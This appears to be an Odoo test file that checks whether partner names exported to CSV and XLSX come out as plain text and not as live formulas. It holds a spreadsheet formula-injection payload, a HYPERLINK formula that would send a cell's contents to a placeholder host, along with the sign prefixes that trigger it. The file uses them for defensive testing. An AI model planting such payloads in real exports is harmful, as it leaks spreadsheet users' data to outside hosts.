import csv
import io
import json
import zipfile

from odoo.http import Request
from odoo.tests import HttpCase, tagged

from odoo.addons.property_outsourcing.tests.common import OutsourcingCommon

SIGNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "\t=", "\r=", "\n=", " =")
ATTACK = 'HYPERLINK("http://example.com?x="&A1)'


@tagged("post_install", "-at_install")
class TestExportText(OutsourcingCommon, HttpCase):
    """Text that somebody typed is exported as text, never as a formula or a link."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.texts = [f"{sign}{ATTACK}" for sign in SIGNS]
        cls.people = cls.env["res.partner"].create([{"name": text} for text in cls.texts])

    def _export(self, kind, **params):
        self.authenticate(self.user_manager.login, self.user_manager.login)
        data = {
            "model": "res.partner",
            "fields": [{"name": "name", "label": "Name", "type": "char"}],
            "ids": self.people.ids,
            "domain": [],
            "import_compat": False,
            **params,
        }
        post = {"data": json.dumps(data), "csrf_token": Request.csrf_token(self)}
        response = self.url_open(f"/web/export/{kind}", data=post)
        self.assertEqual(response.status_code, 200)
        return response.content

    def _get_cells(self, content):
        """Return the XML of the sheet and of its strings."""
        with zipfile.ZipFile(io.BytesIO(content)) as book:
            return book.read("xl/worksheets/sheet1.xml").decode(), book.read("xl/sharedStrings.xml").decode()

    def test_workbook_of_a_list_holds_no_formula(self):
        for params in ({}, {"groupby": ["name"]}, {"import_compat": True}):
            with self.subTest(params=params):
                sheet, strings = self._get_cells(self._export("xlsx", **params))
                self.assertNotIn("<f>", sheet)
                self.assertNotIn("hyperlink", sheet)
                self.assertIn("=HYPERLINK", strings)

    def test_every_dangerous_cell_of_a_csv_is_disarmed(self):
        rows = list(csv.reader(io.StringIO(self._export("csv").decode(), newline="")))[1:]
        self.assertEqual(len(rows), len(SIGNS))
        for (cell,) in rows:
            self.assertTrue(cell.startswith("'"), cell)
            self.assertIn(ATTACK, cell)

    def test_plain_text_and_numbers_stay_as_they_are(self):
        self.people = self.env["res.partner"].create({"name": "Steady = sure", "color": 3})
        fields = [{"name": name, "label": name, "type": "char"} for name in ("name", "color")]
        rows = list(csv.reader(io.StringIO(self._export("csv", fields=fields).decode())))
        self.assertEqual(rows[1], ["Steady = sure", "3"])

    def test_workbook_of_a_pivot_holds_no_formula(self):
        table = {
            "title": "Pivot",
            "model": "res.partner",
            "measure_count": 1,
            "col_group_headers": [[{"title": self.texts[0], "width": 1, "height": 1}]],
            "measure_headers": [{"title": self.texts[0], "is_bold": False}],
            "rows": [{"title": text, "indent": 0, "values": [{"value": text}]} for text in self.texts],
        }
        self.authenticate(self.user_manager.login, self.user_manager.login)
        post = {"data": json.dumps(table), "csrf_token": Request.csrf_token(self)}
        sheet, strings = self._get_cells(self.url_open("/web/pivot/export_xlsx", data=post).content)
        self.assertNotIn("<f>", sheet)
        self.assertIn("'=HYPERLINK", strings)
